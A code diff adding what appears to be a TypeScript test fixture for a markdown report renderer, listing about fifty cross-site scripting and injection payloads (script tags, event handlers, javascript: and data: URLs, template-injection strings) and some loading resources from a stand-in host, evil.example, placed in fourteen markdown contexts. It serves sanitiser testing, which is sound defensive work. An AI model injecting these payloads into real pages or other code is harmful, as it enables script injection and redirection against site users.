@@ -1,0 +1,78 @@
+/** Each runs `ran()`, loads something from elsewhere or puts an element on the page, where text is taken for more than text. */
+const PAYLOADS = [
+  '<script>ran()</script>',
+  '<ScRiPt>ran()</sCrIpT>',
+  '<script src=https://evil.example/x.js></script>',
+  '<script src="data:text/javascript,ran()"></script>',
+  '</title><script>ran()</script>',
+  '</textarea><script>ran()</script>',
+  '--><script>ran()</script><!--',
+  ']]><script>ran()</script>',
+  '"><script>ran()</script>',
+  "'><img src=x onerror=ran()>",
+  '<img src=x onerror=ran()>',
+  '<img/src/onerror=ran()>',
+  '<img src="x` `<script>ran()</script>"` `>',
+  '<svg onload=ran()>',
+  '<svg><script>ran()</script></svg>',
+  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
+  '<math><mtext><table><mglyph><style><img src onerror=ran()>',
+  '<iframe src="javascript:parent.ran()"></iframe>',
+  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
+  '<object data="javascript:ran()"></object>',
+  '<embed src="data:text/html,<script>ran()</script>">',
+  '<details open ontoggle=ran()>',
+  '<input autofocus onfocus=ran()>',
+  '<video><source onerror=ran()></video>',
+  '<body onload=ran()>',
+  '<form action="javascript:ran()"><button>x</button></form>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<style>@import "https://evil.example/x.css"; * { color: red }</style>',
+  '<p style="background:url(https://evil.example/x.png)">x</p>',
+  '<a href="javascript:ran()">x</a>',
+  '<template><script>ran()</script></template>',
+  '<x onclick=ran() style=position:fixed;inset:0>x</x>',
+  'javascript:ran()',
+  'JaVaScRiPt:ran()',
+  'java\tscript:ran()',
+  'javascript&colon;ran()',
+  '&#106;avascript:ran()',
+  '\u0001javascript:ran()',
+  'vbscript:ran()',
+  'data:text/html,<script>ran()</script>',
+  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
+  '//evil.example/x',
+  '{{constructor.constructor("ran()")()}}',
+  '${ran()}',
+  '#{ran()}',
+  '<%= ran() %>',
+  '&lt;script&gt;ran()&lt;/script&gt;',
+  '\u202e<script>ran()</script>',
+] as const
+
+/** Where in a report's markdown a text may stand. */
+const PLACES: ((text: string) => string)[] = [
+  (text) => text,
+  (text) => `before ${text} after`,
+  (text) => `[x](${text})`,
+  (text) => `[x](<${text}>)`,
+  (text) => `[x](https://example.com "${text}")`,
+  (text) => `![x](${text})`,
+  (text) => `![${text}](x)`,
+  (text) => `<${text}>`,
+  (text) => `[r]\n\n[r]: ${text}`,
+  (text) => `## ${text}`,
+  (text) => `- ${text}`,
+  (text) => `> ${text}`,
+  (text) => `\`${text}\``,
+  (text) => `<a href="${text}">x</a>`,
+]
+
+export const hostileTexts: readonly string[] = PAYLOADS
+
+/** One report for each place. */
+export const hostileReports = PLACES.map((place) => PAYLOADS.map(place).join('\n\n'))
+
+export const hostileStrings = PLACES.length * PAYLOADS.length
